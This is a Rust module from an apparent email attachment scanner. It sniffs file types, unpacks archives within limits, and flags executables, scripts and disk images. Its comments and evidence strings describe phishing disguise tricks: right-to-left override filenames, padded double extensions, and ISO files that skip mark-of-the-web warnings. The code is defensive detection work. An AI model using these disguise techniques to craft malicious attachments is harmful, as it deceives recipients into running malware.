//! Attachment inspection: what a file really is, and what in it could run.
//!
//! [`inspect`] takes an [`Attachment`] (name, declared MIME type, bytes) and
//! gives a [`Report`]: the size and SHA-256, the type found by magic bytes,
//! the evidence that fired and a report per archive member or embedded file
//! looked at ([`Report::inner`]). A container's own evidence already sums up
//! its members (`attach.archive_contains`, `attach.embedded`), so a caller
//! scores a report by its top-level [`Report::evidence`] alone; the inner
//! reports are detail (hashes, names) for the analyst. [`Inspector`]
//! inspects several attachments (a message's) within one budget.
//!
//! Owns: recognising a file by its content; name tricks (double extensions,
//! padding, right-to-left overrides); walking containers (zip, ISO 9660,
//! gzip, tar, RAR and 7z headers, OLE/CFB, OOXML, HWP 5.0, HWPX, OneNote);
//! the per-format checks (VBA and Excel 4.0 macros, remote templates and
//! external objects, DDE, Equation Editor objects, HWP PostScript and
//! scripts, PDF actions, HTML forms, redirects and smuggling, RTF objects);
//! and the [`Limits`] that bound all of it.
//!
//! Must not: run, render or fetch anything found in a file, or write it
//! anywhere; unpack past [`Limits`] (a decompression bomb is reported as
//! `attach.archive_bomb`, not inflated); panic on any input.

use crate::evidence::Evidence;
use crate::indicators::{self, Link};
use chainhound_chain::hash::{sha256, to_hex};
use miniz_oxide::inflate::{self, TINFLStatus};
use serde::Serialize;
use std::borrow::Cow;
use std::collections::HashSet;
use std::fmt::Write as _;
use std::io::{Cursor, Read};
use std::path::{Component, PathBuf};

/// An attachment as found in a message.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Attachment<'a> {
    /// File name as sent, if any.
    pub name: Option<&'a str>,
    /// Declared MIME type (`application/pdf`), if any.
    pub declared: Option<&'a str>,
    /// Decoded content.
    pub bytes: &'a [u8],
}

/// What inspecting one file found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Report {
    /// File name; for a member, its path inside the container. Empty when
    /// the attachment had no name.
    pub name: String,
    /// Size in bytes; for a member whose content was not read, the size its
    /// container declares (0 when unknown).
    pub size: u64,
    /// SHA-256 of the content, lower-case hex (for a member cut short,
    /// corrupt or truncated, of what could be read). Empty when the content
    /// was not read: encrypted, a bomb, past the [`Limits`], or in a format
    /// that is only listed (RAR).
    pub sha256: String,
    /// What the content is: `pe`, `elf`, `macho`, `lnk`, `iso`, `zip`,
    /// `rar`, `7z`, `gzip`, `tar`, `ole`, `ooxml-docx`/`-docm`/`-xlsx`/
    /// `-xlsm`/`-pptx`/`-pptm`, `hwp`, `hwpx`, `pdf`, `rtf`, `html`, `hta`,
    /// `script-js`/`-vbs`/`-ps1`/`-bat`/`-cmd`/`-wsf`, `jar`, `msi`,
    /// `onenote`, `chm`, `postscript`, `image`, `text` or `unknown`.
    pub detected: &'static str,
    /// Rules that fired on this file, members summed up.
    pub evidence: Vec<Evidence>,
    /// Archive members and embedded files looked at, bounded by [`Limits`].
    pub inner: Vec<Report>,
    /// The web links this file holds, at most [`MAX_DOC_LINKS`]: a PDF's
    /// `/URI` actions, an OOXML document's hyperlinks, an HTML file's links
    /// and form targets (members' are in their own reports). Judged by the
    /// message's link rules: a PDF whose one button goes to a shortener is
    /// a link to it.
    pub links: Vec<Link>,
}

impl Report {
    /// Sum of the weights of this report's own evidence (which already
    /// includes the summary of its members).
    pub fn score(&self) -> i32 {
        self.evidence.iter().map(|e| e.weight).sum()
    }

    /// The evidence of `rule`, if it fired on this file.
    pub fn get(&self, rule: &str) -> Option<&Evidence> {
        self.evidence.iter().find(|e| e.rule == rule)
    }
}

/// Bounds on the work spent on one attachment, members included.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Containers are opened down to this depth: the attachment is depth
    /// 0, its members depth 1. A container found at this depth is reported
    /// (`attach.too_deep`) but not opened.
    pub max_depth: usize,
    /// Members inspected in all, over every container of the attachment.
    /// Members past it are judged by name only.
    pub max_members: usize,
    /// Bytes unpacked (inflated, or cut out of a container) in all.
    pub max_inflated_total: u64,
    /// A member inflating to more than this many times its packed size is
    /// a bomb ...
    pub max_ratio: u64,
    /// ... once it is larger than this (small, very compressible files are
    /// common and harmless).
    pub bomb_floor: u64,
    /// Text formats (HTML, RTF, PostScript) are scanned this far.
    pub max_scan: usize,
}

impl Default for Limits {
    fn default() -> Limits {
        Limits {
            max_depth: 3,
            max_members: 200,
            max_inflated_total: 50 << 20,
            max_ratio: 100,
            bomb_floor: 1 << 20,
            max_scan: 8 << 20,
        }
    }
}

/// Inspects an attachment within the default [`Limits`].
pub fn inspect(a: &Attachment) -> Report {
    inspect_with(a, &Limits::default())
}

/// Inspects an attachment within `limits`.
pub fn inspect_with(a: &Attachment, limits: &Limits) -> Report {
    Inspector::new(*limits).inspect(a)
}

/// Inspects several attachments (all those of one message) within one
/// budget: the bytes unpacked and the members inspected are counted across
/// them, so that a message of many small bombs costs no more than one
/// attachment may. Each attachment is still sniffed, hashed and judged by
/// name; past the budget its members are judged by name only
/// (`attach.unchecked`).
#[derive(Debug, Clone)]
pub struct Inspector {
    lim: Limits,
    unpack_left: u64,
    members_left: usize,
    listed_left: usize,
}

impl Inspector {
    /// A fresh budget of `limits`.
    pub fn new(limits: Limits) -> Inspector {
        Inspector {
            lim: limits,
            unpack_left: limits.max_inflated_total,
            members_left: limits.max_members,
            listed_left: limits.max_members,
        }
    }

    /// Inspects one attachment, taking what it uses from the budget.
    pub fn inspect(&mut self, a: &Attachment) -> Report {
        let mut ctx = Ctx {
            lim: &self.lim,
            unpack_left: self.unpack_left,
            members_left: self.members_left,
            listed_left: self.listed_left,
        };
        let r = inspect_at(&mut ctx, a.name.unwrap_or(""), a.declared, a.bytes, 0);
        (self.unpack_left, self.members_left, self.listed_left) =
            (ctx.unpack_left, ctx.members_left, ctx.listed_left);
        r
    }

    /// Bytes that may still be unpacked.
    pub fn unpack_left(&self) -> u64 {
        self.unpack_left
    }
}

// ---------------------------------------------------------------------------
// The walk.

/// Entries read from one archive directory at most (names are cheap; the
/// content of members is bounded by [`Limits::max_members`]).
const MAX_ENTRIES: usize = 10_000;
/// An OOXML/HWPX part (relationships, document XML, scripts) read at most.
const PART_CAP: u64 = 16 << 20;
/// Evidence words are cut near this length.
const MAX_WORDS: usize = 600;

/// Budgets left for the whole attachment.
struct Ctx<'l> {
    lim: &'l Limits,
    unpack_left: u64,
    members_left: usize,
    /// Members past [`Limits::max_members`] whose names alone are evidence
    /// still kept in the report (as many again as were inspected).
    listed_left: usize,
}

impl Ctx<'_> {
    #[cfg(test)]
    fn new(lim: &Limits) -> Ctx<'_> {
        Ctx {
            lim,
            unpack_left: lim.max_inflated_total,
            members_left: lim.max_members,
            listed_left: lim.max_members,
        }
    }

    /// Takes one member slot; false when none is left.
    fn slot(&mut self) -> bool {
        if self.members_left == 0 {
            return false;
        }
        self.members_left -= 1;
        true
    }
}

/// Evidence being gathered for one file; a rule fires once, later findings
/// of it add words and may raise its weight.
#[derive(Default)]
struct Found(Vec<Evidence>);

impl Found {
    fn has(&self, rule: &str) -> bool {
        self.0.iter().any(|e| e.rule == rule)
    }

    fn add(&mut self, rule: &'static str, weight: i32, words: impl Into<String>) {
        let words = words.into();
        match self.0.iter_mut().find(|e| e.rule == rule) {
            Some(e) => {
                e.weight = e.weight.max(weight);
                if e.words.len() < MAX_WORDS && !e.words.contains(&words) {
                    e.words.push_str("; ");
                    e.words.push_str(&words);
                    clip_words(&mut e.words);
                }
            }
            None => {
                let mut words = words;
                clip_words(&mut words);
                self.0.push(Evidence::new(rule, weight, words));
            }
        }
    }

    fn add_once(&mut self, rule: &'static str, weight: i32, words: impl Into<String>) {
        if !self.has(rule) {
            self.add(rule, weight, words);
        }
    }
}

/// A file being inspected: its report so far, the format findings, how it
/// is shown in words and how deep it sits.
struct Node {
    r: Report,
    doc: Found,
    shown: String,
    depth: usize,
}

fn inspect_at(ctx: &mut Ctx, name: &str, declared: Option<&str>, b: &[u8], depth: usize) -> Report {
    let ext = extension(name);
    let ext = ext.as_deref();
    let mut n = Node {
        r: Report {
            name: name.to_owned(),
            size: b.len() as u64,
            sha256: to_hex(&sha256(b)),
            detected: sniff(b, ext),
            evidence: Vec::new(),
            inner: Vec::new(),
            links: Vec::new(),
        },
        doc: Found::default(),
        shown: shown(name),
        depth,
    };
    let container = matches!(
        n.r.detected,
        "zip" | "ole" | "iso" | "gzip" | "tar" | "rar" | "7z" | "onenote"
    );
    if container && depth >= ctx.lim.max_depth {
        n.doc.add(
            "attach.too_deep",
            4,
            format!(
                "{} is nested {depth} containers deep and was not opened",
                n.shown
            ),
        );
    } else {
        match n.r.detected {
            "zip" => zip_family(ctx, &mut n, b),
            "ole" => cfb_family(ctx, &mut n, b),
            "iso" => iso(ctx, &mut n, b),
            "gzip" => gzip(ctx, &mut n, b),
            "tar" => tar(ctx, &mut n, b),
            "rar" => rar(ctx, &mut n, b),
            "7z" => seven_zip(&mut n, b),
            "onenote" => onenote(ctx, &mut n, b),
            _ => {}
        }
    }
    match n.r.detected {
        "pdf" => pdf(ctx, &mut n, b),
        "html" | "hta" => html(&mut n.doc, &mut n.r.links, &n.shown, b, ctx.lim.max_scan),
        "image" if is_text(b) => html(&mut n.doc, &mut n.r.links, &n.shown, b, ctx.lim.max_scan),
        "rtf" => rtf(&mut n.doc, &n.shown, b, ctx.lim.max_scan),
        "postscript" => postscript(&mut n.doc, &n.shown, b, ctx.lim.max_scan),
        _ => {}
    }
    let mut found = Found::default();
    type_evidence(&mut found, &n.shown, n.r.detected, ext, b);
    mismatch(&mut found, &n.shown, n.r.detected, ext, declared);
    name_tricks(&mut found, &n.shown, name);
    for e in n.doc.0 {
        found.add(e.rule, e.weight, e.words);
    }
    summarize(&mut found, &n.shown, &n.r);
    n.r.evidence = found.0;
    n.r
}

/// A member known only by name (encrypted, a bomb, past the limits, or in a
/// format that is only listed): the name checks still apply.
fn name_only(name: &str, size: u64) -> Report {
    let shown = shown(name);
    let ext = extension(name);
    let mut found = Found::default();
    type_evidence(&mut found, &shown, "unknown", ext.as_deref(), &[]);
    name_tricks(&mut found, &shown, name);
    Report {
        name: name.to_owned(),
        size,
        sha256: String::new(),
        detected: "unknown",
        evidence: found.0,
        links: Vec::new(),
        inner: Vec::new(),
    }
}

/// A member past [`Limits::max_members`]: judged by name, kept only if its
/// name alone is evidence.
fn listed_only(ctx: &mut Ctx, n: &mut Node, name: &str, size: u64) {
    n.doc.add_once(
        "attach.unchecked",
        0,
        format!(
            "{}: past the first {} members, the rest were judged by name only",
            n.shown, ctx.lim.max_members
        ),
    );
    let m = name_only(name, size);
    if m.evidence.is_empty() {
        return;
    }
    if ctx.listed_left == 0 {
        n.doc.add(
            "attach.unchecked",
            0,
            "more members whose names alone are evidence were left out of the list",
        );
        return;
    }
    ctx.listed_left -= 1;
    n.r.inner.push(m);
}

/// Takes a member slot and adds the member: unpacked by `unpack` (`None`
/// when it cannot be read), or by name only once no slot is left.
fn member<'a>(
    ctx: &mut Ctx,
    n: &mut Node,
    name: &str,
    size: u64,
    unpack: impl FnOnce(&mut Ctx) -> Option<Unpacked<'a>>,
) {
    if !ctx.slot() {
        listed_only(ctx, n, name, size);
        return;
    }
    let got = unpack(ctx);
    add_member(ctx, n, name, size, got);
}

/// A decompression bomb in `n`: member or part `name`, and why.
fn bomb(n: &mut Node, name: &str, why: &str) {
    n.doc.add(
        "attach.archive_bomb",
        6,
        format!(
            "{}: {} {why}, a decompression bomb; it was not unpacked",
            n.shown,
            shown(name)
        ),
    );
}

/// Adds a member to `n`: inspects it when it was unpacked, lists it by name
/// otherwise (`got` is `None` when it cannot be read: encrypted, an
/// unsupported method).
fn add_member(ctx: &mut Ctx, n: &mut Node, name: &str, size: u64, got: Option<Unpacked>) {
    match got {
        Some(Unpacked::Data(d) | Unpacked::Partial(d)) => {
            let m = inspect_at(ctx, name, None, &d, n.depth + 1);
            n.r.inner.push(m);
        }
        Some(Unpacked::Bomb(why)) => {
            bomb(n, name, &why);
            n.r.inner.push(name_only(name, size));
        }
        Some(Unpacked::OverBudget) => {
            n.doc.add(
                "attach.unchecked",
                0,
                format!(
                    "{}: {} was judged by name only, past the limit of {} unpacked",
                    n.shown,
                    shown(name),
                    human(ctx.lim.max_inflated_total)
                ),
            );
            n.r.inner.push(name_only(name, size));
        }
        None => n.r.inner.push(name_only(name, size)),
    }
}

/// Sums up risky members in the container's own evidence.
fn summarize(found: &mut Found, shown: &str, r: &Report) {
    let mut hits: Vec<(i32, &Report)> = r
        .inner
        .iter()
        .map(|m| (m.evidence.iter().map(|e| e.weight.max(0)).sum::<i32>(), m))
        .filter(|(s, _)| *s >= 4)
        .collect();
    if hits.is_empty() {
        return;
    }
    hits.sort_by_key(|h| std::cmp::Reverse(h.0));
    let archive = matches!(r.detected, "zip" | "rar" | "7z" | "iso" | "gzip" | "tar");
    let mut words = format!(
        "{shown} {} {} risky file{}: ",
        if archive { "holds" } else { "embeds" },
        hits.len(),
        if hits.len() == 1 { "" } else { "s" }
    );
    for (i, (_, m)) in hits.iter().take(3).enumerate() {
        if i > 0 {
            words.push_str("; ");
        }
        if let Some(top) = m.evidence.iter().max_by_key(|e| e.weight) {
            words.push_str(&top.words);
        }
    }
    if hits.len() > 3 {
        let _ = write!(words, "; and {} more", hits.len() - 3);
    }
    let rule = if archive {
        "attach.archive_contains"
    } else {
        "attach.embedded"
    };
    found.add(rule, hits[0].0.min(10), words);
}

// ---------------------------------------------------------------------------
// Unpacking, bounded.

/// How a member is packed.
#[derive(Clone, Copy)]
enum Codec {
    Stored,
    Deflate,
    Zlib,
}

/// What unpacking a member gave.
enum Unpacked<'a> {
    /// The whole content.
    Data(Cow<'a, [u8]>),
    /// What came out before the stream broke off (truncated or corrupt).
    Partial(Cow<'a, [u8]>),
    /// It would inflate past its declared size or [`Limits::max_ratio`].
    Bomb(String),
    /// It does not fit in what is left of [`Limits::max_inflated_total`].
    OverBudget,
}

/// Unpacks `raw`, never producing more than the budget, the ratio cap or
/// the `declared` size allow; what is produced is taken from the budget.
fn unpack<'a>(ctx: &mut Ctx, raw: &'a [u8], codec: Codec, declared: Option<u64>) -> Unpacked<'a> {
    let lim = ctx.lim;
    let packed = raw.len() as u64;
    if let Codec::Stored = codec {
        if packed > ctx.unpack_left {
            return Unpacked::OverBudget;
        }
        ctx.unpack_left -= packed;
        return Unpacked::Data(Cow::Borrowed(raw));
    }
    let ratio_cap = by_ratio(lim, packed);
    if let Some(why) = declared_bomb(lim, packed, declared) {
        return Unpacked::Bomb(why);
    }
    if let Some(d) = declared {
        if d > ctx.unpack_left {
            return Unpacked::OverBudget;
        }
    }
    let by_declared = declared.unwrap_or(u64::MAX);
    let limit = ratio_cap.min(ctx.unpack_left).min(by_declared);
    let cap = usize::try_from(limit).unwrap_or(usize::MAX);
    let res = match codec {
        Codec::Zlib => inflate::decompress_to_vec_zlib_with_limit(raw, cap),
        _ => inflate::decompress_to_vec_with_limit(raw, cap),
    };
    match res {
        Ok(v) => {
            ctx.unpack_left = ctx.unpack_left.saturating_sub(v.len() as u64);
            Unpacked::Data(Cow::Owned(v))
        }
        Err(e) if e.status == TINFLStatus::HasMoreOutput => {
            ctx.unpack_left = ctx.unpack_left.saturating_sub(e.output.len() as u64);
            if limit == by_declared {
                Unpacked::Bomb(format!(
                    "inflates past its declared size of {}",
                    human(by_declared)
                ))
            } else if limit == ratio_cap {
                Unpacked::Bomb(format!(
                    "inflates to more than {} from {} (over {}x)",
                    human(ratio_cap),
                    human(packed),
                    lim.max_ratio
                ))
            } else {
                Unpacked::OverBudget
            }
        }
        Err(e) => {
            ctx.unpack_left = ctx.unpack_left.saturating_sub(e.output.len() as u64);
            Unpacked::Partial(Cow::Owned(e.output))
        }
    }
}

/// The most `packed` bytes may inflate to before they are a bomb.
fn by_ratio(lim: &Limits, packed: u64) -> u64 {
    packed.saturating_mul(lim.max_ratio).max(lim.bomb_floor)
}

/// Why a member declaring `declared` bytes from `packed` is a bomb, if it
/// is one by its declaration alone.
fn declared_bomb(lim: &Limits, packed: u64, declared: Option<u64>) -> Option<String> {
    let d = declared?;
    (d > by_ratio(lim, packed)).then(|| {
        format!(
            "would inflate to {} from {} ({}x)",
            human(d),
            human(packed),
            d / packed.max(1)
        )
    })
}

// ---------------------------------------------------------------------------
// Names.

/// Bidirectional-text controls: they make a name display in another order
/// than it is (`invoice\u{202E}fdp.exe` shows as `invoiceexe.pdf`).
fn is_bidi(c: char) -> bool {
    matches!(
        c,
        '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}'
    )
}

/// Characters that show as nothing.
fn is_invisible(c: char) -> bool {
    is_bidi(c)
        || matches!(c, '\u{200B}'..='\u{200D}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}' | '\u{00AD}')
}

/// Characters that show as blank space (Hangul fillers included).
fn is_blank(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '\u{3164}' | '\u{115F}' | '\u{1160}' | '\u{FFA0}' | '\u{2800}'
        )
}

/// The last component of a path, `/` or `\` separated.
fn base_name(name: &str) -> &str {
    name.rsplit(['/', '\\']).next().unwrap_or(name)
}

/// The extension Windows would act on: lower case, invisible characters
/// dropped, trailing blanks and dots ignored (Windows strips them).
fn extension(name: &str) -> Option<String> {
    let clean: String = base_name(name)
        .chars()
        .filter(|c| !is_invisible(*c))
        .collect();
    let t = clean.trim_end_matches(|c: char| is_blank(c) || c == '.');
    let (_, ext) = t.rsplit_once('.')?;
    let ok = !ext.is_empty()
        && ext.len() <= 12
        && ext
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
    ok.then(|| ext.to_ascii_lowercase())
}

/// A name as put in words: control and invisible characters spelled out,
/// cut at 120 characters.
pub(crate) fn shown(name: &str) -> String {
    if name.is_empty() {
        return "the unnamed attachment".to_owned();
    }
    let mut s = String::new();
    for (i, c) in name.chars().enumerate() {
        if i >= 120 {
            s.push('…');
            break;
        }
        if is_invisible(c) || c.is_control() {
            let _ = write!(s, "<U+{:04X}>", c as u32);
        } else {
            s.push(c);
        }
    }
    s
}

/// Extensions Windows runs as programs.
const PROGRAM_EXT: &[&str] = &[
    "exe", "scr", "com", "pif", "dll", "cpl", "msi", "msp", "lnk", "chm", "jar", "xll", "msc",
];
/// Extensions Windows runs as scripts.
const SCRIPT_EXT: &[&str] = &[
    "hta", "js", "jse", "vbs", "vbe", "wsf", "wsh", "ps1", "psm1", "bat", "cmd",
];
/// Disk images Windows mounts on a double-click.
const DISK_EXT: &[&str] = &["iso", "img", "vhd", "vhdx"];
/// Extensions a lure hides the real one behind.
const DECOY_EXT: &[&str] = &[
    "pdf", "doc", "docx", "docm", "xls", "xlsx", "xlsm", "ppt", "pptx", "rtf", "txt", "csv", "hwp",
    "hwpx", "jpg", "jpeg", "png", "gif", "bmp", "tif", "tiff", "mp3", "mp4", "wav", "avi", "mov",
    "htm", "html", "zip", "rar", "7z", "odt", "ods",
];

fn runs(ext: &str) -> bool {
    PROGRAM_EXT.contains(&ext) || SCRIPT_EXT.contains(&ext)
}

/// Double extensions, blank padding and bidi controls in a name.
fn name_tricks(found: &mut Found, shown: &str, name: &str) {
    let base = base_name(name);
    if base.chars().any(is_bidi) {
        let real = extension(name).map(|e| format!("; its real extension is .{e}"));
        found.add(
            "attach.rtl_override",
            8,
            format!(
                "{shown} has a right-to-left control character in its name, so it displays in another order{}",
                real.unwrap_or_default()
            ),
        );
    }
    let clean: String = base.chars().filter(|c| !is_invisible(*c)).collect();
    let t = clean.trim_end_matches(|c: char| is_blank(c) || c == '.');
    let Some((stem, ext)) = t.rsplit_once('.') else {
        return;
    };
    let ext = ext.to_ascii_lowercase();
    if !runs(&ext) && !DISK_EXT.contains(&ext.as_str()) && ext != "one" {
        return;
    }
    let stem_t = stem.trim_end_matches(is_blank);
    let blanks = stem.chars().count() - stem_t.chars().count();
    let decoy = stem_t
        .rsplit_once('.')
        .map(|(_, d)| d.trim().to_ascii_lowercase())
        .filter(|d| DECOY_EXT.contains(&d.as_str()));
    match decoy {
        Some(d) => found.add(
            "attach.double_extension",
            7,
            format!(
                "{shown} hides its real extension .{ext} behind .{d}{}",
                if blanks > 0 {
                    ", padded with blanks"
                } else {
                    ""
                }
            ),
        ),
        None if blanks >= 3 => found.add(
            "attach.double_extension",
            6,
            format!(
                "{shown} pads its name with blanks to push the real extension .{ext} out of sight"
            ),
        ),
        None => {}
    }
}

// ---------------------------------------------------------------------------
// Types.

const CFB_MAGIC: &[u8] = &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
const LNK_MAGIC: &[u8] = &[
    0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46,
];
const ONENOTE_MAGIC: &[u8] = &[
    0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3,
];

/// The type of `b` by its magic bytes; for text, by its extension and a
/// look at its start.
fn sniff(b: &[u8], ext: Option<&str>) -> &'static str {
    if is_pe(b) {
        "pe"
    } else if b.starts_with(b"\x7fELF") {
        "elf"
    } else if is_macho(b) {
        "macho"
    } else if b.starts_with(LNK_MAGIC) {
        "lnk"
    } else if b.starts_with(b"PK\x03\x04")
        || b.starts_with(b"PK\x05\x06")
        || b.starts_with(b"PK\x07\x08")
    {
        "zip"
    } else if b.starts_with(CFB_MAGIC) {
        "ole"
    } else if b.starts_with(b"Rar!\x1a\x07") {
        "rar"
    } else if b.starts_with(b"7z\xbc\xaf\x27\x1c") {
        "7z"
    } else if b.starts_with(&[0x1f, 0x8b]) {
        "gzip"
    } else if b.get(0x8001..0x8006) == Some(b"CD001") {
        "iso"
    } else if b.get(257..262) == Some(b"ustar") {
        "tar"
    } else if find(&b[..b.len().min(1024)], b"%PDF-").is_some() {
        "pdf"
    } else if b.starts_with(b"{\\rt") {
        "rtf"
    } else if b.starts_with(ONENOTE_MAGIC) {
        "onenote"
    } else if b.starts_with(b"ITSF") {
        "chm"
    } else if b.starts_with(&[0xC5, 0xD0, 0xD3, 0xC6]) || b.starts_with(b"%!PS") {
        "postscript"
    } else if is_image(b) {
        "image"
    } else if is_text(b) {
        text_kind(b, ext)
    } else {
        "unknown"
    }
}

fn is_pe(b: &[u8]) -> bool {
    if b.len() < 0x40 || !b.starts_with(b"MZ") {
        return false;
    }
    match u32le(b, 0x3c) {
        Some(off) if off < 0x1_0000 => {
            let off = off as usize;
            b.get(off..off + 4).is_none_or(|s| s == b"PE\0\0")
        }
        _ => false,
    }
}

fn pe_is_dll(b: &[u8]) -> bool {
    u32le(b, 0x3c)
        .and_then(|off| u16le(b, (off as usize).checked_add(22)?))
        .is_some_and(|c| c & 0x2000 != 0)
}

fn is_macho(b: &[u8]) -> bool {
    const THIN: [[u8; 4]; 4] = [
        [0xFE, 0xED, 0xFA, 0xCE],
        [0xFE, 0xED, 0xFA, 0xCF],
        [0xCE, 0xFA, 0xED, 0xFE],
        [0xCF, 0xFA, 0xED, 0xFE],
    ];
    if THIN.iter().any(|m| b.starts_with(m)) {
        return true;
    }
    // Fat binaries share CAFEBABE with Java classes; a class file's next
    // word (its version) is far above any architecture count.
    b.starts_with(&[0xCA, 0xFE, 0xBA, 0xBE])
        && b.get(4..8)
            .map(|n| u32::from_be_bytes([n[0], n[1], n[2], n[3]]))
            .is_some_and(|n| (1..=20).contains(&n))
}

fn is_image(b: &[u8]) -> bool {
    b.starts_with(b"\x89PNG\r\n\x1a\n")
        || b.starts_with(&[0xFF, 0xD8, 0xFF])
        || b.starts_with(b"GIF87a")
        || b.starts_with(b"GIF89a")
        || (b.starts_with(b"BM") && b.get(6..10) == Some(&[0, 0, 0, 0]))
        || (b.starts_with(b"RIFF") && b.get(8..12) == Some(b"WEBP"))
        || b.starts_with(b"II*\0")
        || b.starts_with(b"MM\0*")
        || (b.starts_with(&[0, 0, 1, 0])
            && b.get(4).is_some_and(|&n| n > 0)
            && b.get(5) == Some(&0))
}

/// Text: no NULs and almost no control bytes in the first 8 KiB (any
/// 8-bit encoding passes), or a UTF-16 byte order mark.
fn is_text(b: &[u8]) -> bool {
    if b.is_empty() {
        return false;
    }
    if b.starts_with(&[0xFF, 0xFE]) || b.starts_with(&[0xFE, 0xFF]) {
        return true;
    }
    let s = &b[..b.len().min(8192)];
    if s.contains(&0) {
        return false;
    }
    let ctl = s
        .iter()
        .filter(|&&c| c < 0x20 && !matches!(c, b'\t' | b'\n' | b'\r' | 0x0c | 0x1b))
        .count();
    ctl * 50 <= s.len()
}

/// Extensions whose files open as plain text whatever they hold.
const TEXT_EXT: &[&str] = &[
    "txt", "csv", "tsv", "log", "json", "xml", "md", "ini", "cfg", "conf", "yaml", "yml", "eml",
    "ics", "vcf",
];

fn text_kind(b: &[u8], ext: Option<&str>) -> &'static str {
    match ext {
        Some("js" | "jse") => return "script-js",
        Some("vbs" | "vbe") => return "script-vbs",
        Some("ps1" | "psm1") => return "script-ps1",
        Some("bat") => return "script-bat",
        Some("cmd") => return "script-cmd",
        Some("wsf" | "wsh") => return "script-wsf",
        Some("hta") => return "hta",
        Some("eps" | "ps" | "ai") => return "postscript",
        Some("html" | "htm" | "xhtml" | "shtml" | "mht" | "mhtml") => return "html",
        Some("svg") => return "image",
        Some(e) if TEXT_EXT.contains(&e) => return "text",
        _ => {}
    }
    let head = String::from_utf8_lossy(&b[..b.len().min(64 << 10)]).to_ascii_lowercase();
    let start = head.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
    if head.contains("<hta:application") {
        "hta"
    } else if start.starts_with("<!doctype html")
        || start.starts_with("<html")
        || (head.contains("<script") && (head.contains("<body") || head.contains("<head")))
    {
        "html"
    } else if start.starts_with("<svg") || (start.starts_with("<?xml") && head.contains("<svg")) {
        "image"
    } else {
        "text"
    }
}

/// Types whose content runs when opened.
fn content_runs(d: &str) -> bool {
    matches!(
        d,
        "pe" | "elf" | "macho" | "lnk" | "msi" | "jar" | "hta" | "chm"
    ) || d.starts_with("script-")
}

/// A type in plain words.
fn describe(d: &str) -> &'static str {
    match d {
        "pe" => "a Windows program (PE)",
        "elf" => "a Linux program (ELF)",
        "macho" => "a macOS program (Mach-O)",
        "lnk" => "a Windows shortcut (LNK)",
        "iso" => "an ISO disk image",
        "zip" => "a zip archive",
        "rar" => "a RAR archive",
        "7z" => "a 7z archive",
        "gzip" => "a gzip file",
        "tar" => "a tar archive",
        "ole" => "an OLE (Office 97-2003) file",
        "ooxml-docx" | "ooxml-docm" => "a Word document",
        "ooxml-xlsx" | "ooxml-xlsm" => "an Excel workbook",
        "ooxml-pptx" | "ooxml-pptm" => "a PowerPoint presentation",
        "hwp" => "a Hangul (HWP) document",
        "hwpx" => "a Hangul (HWPX) document",
        "pdf" => "a PDF",
        "rtf" => "an RTF document",
        "html" => "an HTML page",
        "hta" => "an HTML application (HTA)",
        "script-js" => "a JavaScript file",
        "script-vbs" => "a VBScript file",
        "script-ps1" => "a PowerShell script",
        "script-bat" | "script-cmd" => "a batch script",
        "script-wsf" => "a Windows Script File",
        "jar" => "a Java program (JAR)",
        "msi" => "a Windows installer (MSI)",
        "onenote" => "a OneNote notebook",
        "chm" => "a compiled help file (CHM)",
        "postscript" => "a PostScript file",
        "image" => "an image",
        "text" => "text",
        _ => "an unrecognised file",
    }
}

/// What a disk image does when opened.
const MOTW: &str = ": it mounts when opened, and its files skip the mark-of-the-web warning";

/// Executables, scripts, disk images and OneNote, by content or extension.
fn type_evidence(found: &mut Found, shown: &str, d: &str, ext: Option<&str>, b: &[u8]) {
    let by_content: Option<(&'static str, i32, String)> = match d {
        "pe" if pe_is_dll(b) => Some((
            "attach.executable",
            8,
            format!("{shown} is a Windows library (PE DLL)"),
        )),
        "pe" | "elf" | "macho" | "msi" => Some((
            "attach.executable",
            8,
            format!("{shown} is {}", describe(d)),
        )),
        "lnk" => Some((
            "attach.executable",
            8,
            format!("{shown} is a Windows shortcut (LNK), which can run any command"),
        )),
        "jar" => Some((
            "attach.executable",
            6,
            format!("{shown} is a Java program (JAR)"),
        )),
        "chm" => Some((
            "attach.executable",
            7,
            format!("{shown} is a compiled help file (CHM), which can run scripts"),
        )),
        "hta" => Some((
            "attach.script",
            8,
            format!("{shown} is an HTML application (HTA), which Windows runs with full rights"),
        )),
        _ if d.starts_with("script-") => Some((
            "attach.script",
            8,
            format!(
                "{shown} is {} that Windows runs on a double-click",
                describe(d)
            ),
        )),
        "iso" => Some((
            "attach.disk_image",
            6,
            format!("{shown} is a disk image (ISO){MOTW}"),
        )),
        "onenote" => Some((
            "attach.onenote",
            5,
            format!("{shown} is a OneNote notebook, a common wrapper for embedded scripts"),
        )),
        _ => None,
    };
    if let Some((rule, w, words)) = by_content {
        found.add(rule, w, words);
    }
    let Some(ext) = ext else {
        return;
    };
    let (rule, w, words) = if PROGRAM_EXT.contains(&ext) {
        (
            "attach.executable",
            if ext == "jar" { 6 } else { 8 },
            format!("{shown} has the extension .{ext}, which Windows runs as a program"),
        )
    } else if SCRIPT_EXT.contains(&ext) {
        (
            "attach.script",
            8,
            format!("{shown} has the extension .{ext}, a script Windows runs on a double-click"),
        )
    } else if DISK_EXT.contains(&ext) {
        (
            "attach.disk_image",
            6,
            format!(
                "{shown} has the extension .{ext}, a disk image Windows mounts on a double-click"
            ),
        )
    } else if ext == "one" {
        (
            "attach.onenote",
            5,
            format!("{shown} has the extension .one, a OneNote notebook"),
        )
    } else {
        return;
    };
    found.add_once(rule, w, words);
}

/// Types a file with this extension may be.
fn accepted_ext(ext: &str) -> Option<&'static [&'static str]> {
    const DOCX: &[&str] = &["ooxml-docx", "ooxml-docm"];
